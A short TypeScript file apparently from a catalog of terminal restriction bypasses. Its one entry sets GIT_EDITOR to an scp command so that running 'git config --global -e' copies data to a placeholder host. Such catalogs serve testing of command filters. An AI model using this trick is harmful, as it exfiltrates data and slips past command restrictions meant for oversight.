import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by the editor of git',
  source: 'thought of with the keys of the line editor',
  keys: ["GIT_EDITOR='scp DATA host: #' git config --global -e\r"],
};
